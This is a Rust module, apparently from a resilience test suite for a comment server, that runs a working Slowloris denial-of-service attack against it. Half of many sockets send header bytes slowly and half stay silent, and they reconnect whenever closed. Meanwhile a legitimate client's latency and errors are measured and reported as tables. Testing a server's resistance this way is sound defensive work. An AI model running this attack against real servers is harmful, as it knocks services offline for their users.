//! Slowloris: many sockets that send their headers a byte at a time, or never send at all,
//! reopened as soon as the server closes them, while a legitimate client (a new connection
//! per request, as a visitor's browser makes) reads a thread.
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::Mutex;

use super::wire::{self, ms_since, percentile};

/// What the attack and the legitimate client saw.
pub struct Figures {
    pub baseline: Legit,
    pub under_attack: Legit,
    /// Per kind (dribble, silent): sockets opened, and the lifetimes (ms) of those the
    /// server closed.
    pub dribble: (u64, Vec<f64>),
    pub silent: (u64, Vec<f64>),
    /// Attack sockets still open at the end.
    pub open_at_end: u64,
}

#[derive(Default)]
pub struct Legit {
    pub latencies_ms: Vec<f64>,
    pub errors: u64,
}

const THREAD: &str = "/api/v1/comments?site=demo&uri=%2Fb50";

/// A visitor: one request per new connection, back to back (10 ms apart), for `dur`.
async fn legit(server: SocketAddr, dur: Duration) -> Legit {
    let mut out = Legit::default();
    let end = Instant::now() + dur;
    let req = wire::get(THREAD);
    while Instant::now() < end {
        let t = Instant::now();
        let ok = matches!(
            wire::exchange(server, None, &req, Duration::from_secs(5)).await,
            Ok(a) if a.status == 200
        );
        out.latencies_ms.push(ms_since(t));
        if !ok {
            out.errors += 1;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    out.latencies_ms.sort_by(f64::total_cmp);
    out
}

/// One attack socket: open, dribble (or stay silent) until the server closes it, reopen.
/// Returns how many it opened and the lifetimes of those the server closed.
async fn attacker(
    server: SocketAddr,
    n: usize,
    dribble: Option<Duration>,
    stop: Arc<AtomicBool>,
    still_open: Arc<Mutex<u64>>,
) -> (u64, Vec<f64>) {
    let (mut opened, mut closed) = (0u64, Vec::new());
    while !stop.load(Ordering::Acquire) {
        let Ok(mut s) = wire::connect(server, Some(wire::client_addr(n))).await else {
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        opened += 1;
        let t = Instant::now();
        if dribble.is_some() {
            let _ = s.write_all(b"GET / HTTP/1.1\r\n").await;
        }
        let tick = dribble.unwrap_or(Duration::from_secs(3600));
        let mut buf = [0u8; 512];
        let closed_by_server = loop {
            tokio::select! {
                r = s.read(&mut buf) => if !matches!(r, Ok(n) if n > 0) { break true },
                () = tokio::time::sleep(tick) => {
                    if s.write_all(b"X").await.is_err() { break true }
                }
                () = wait_stop(&stop) => break false,
            }
        };
        if !closed_by_server {
            *still_open.lock().await += 1;
            break;
        }
        closed.push(ms_since(t));
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    (opened, closed)
}

async fn wait_stop(stop: &AtomicBool) {
    while !stop.load(Ordering::Acquire) {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Runs the legitimate client alone for `baseline`, then `sockets` attackers (half
/// dribbling a header byte every `byte_every`, half silent) for `dur` beside it.
pub async fn run(
    server: SocketAddr,
    sockets: usize,
    byte_every: Duration,
    baseline: Duration,
    dur: Duration,
) -> Figures {
    let baseline = legit(server, baseline).await;
    let stop = Arc::new(AtomicBool::new(false));
    let still_open = Arc::new(Mutex::new(0u64));
    let mut tasks = Vec::with_capacity(sockets);
    for n in 0..sockets {
        let dribble = (n % 2 == 0).then_some(byte_every);
        tasks.push((
            dribble.is_some(),
            tokio::spawn(attacker(
                server,
                n,
                dribble,
                stop.clone(),
                still_open.clone(),
            )),
        ));
    }
    // Let the attack take its places before the visitor comes.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let under_attack = legit(server, dur).await;
    stop.store(true, Ordering::Release);
    let (mut dribble, mut silent) = ((0, Vec::new()), (0, Vec::new()));
    for (is_dribble, t) in tasks {
        let Ok((opened, closed)) = t.await else {
            continue;
        };
        let into = if is_dribble {
            &mut dribble
        } else {
            &mut silent
        };
        into.0 += opened;
        into.1.extend(closed);
    }
    dribble.1.sort_by(f64::total_cmp);
    silent.1.sort_by(f64::total_cmp);
    let open_at_end = *still_open.lock().await;
    Figures {
        baseline,
        under_attack,
        dribble,
        silent,
        open_at_end,
    }
}

/// The Markdown rows of the figures.
pub fn report(f: &Figures) -> String {
    let mut out = String::from(
        "| legitimate client | requests | p50 ms | p99 ms | max ms | errors |\n|---|---:|---:|---:|---:|---:|\n",
    );
    for (name, l) in [("alone", &f.baseline), ("under attack", &f.under_attack)] {
        let v = &l.latencies_ms;
        out.push_str(&format!(
            "| {name} | {} | {:.1} | {:.1} | {:.1} | {} |\n",
            v.len(),
            percentile(v, 50.0),
            percentile(v, 99.0),
            v.last().copied().unwrap_or(0.0),
            l.errors
        ));
    }
    out.push_str("\n| attack sockets | opened | closed by server | closed < 100 ms | lifetime p50 s | lifetime max s |\n|---|---:|---:|---:|---:|---:|\n");
    for (name, (opened, closed)) in [("byte at a time", &f.dribble), ("silent", &f.silent)] {
        let quick = closed.iter().filter(|&&ms| ms < 100.0).count();
        out.push_str(&format!(
            "| {name} | {opened} | {} | {quick} | {:.1} | {:.1} |\n",
            closed.len(),
            percentile(closed, 50.0) / 1000.0,
            closed.last().copied().unwrap_or(0.0) / 1000.0
        ));
    }
    out.push_str(&format!(
        "\nattack sockets still open at the end: {}\n",
        f.open_at_end
    ));
    out
}
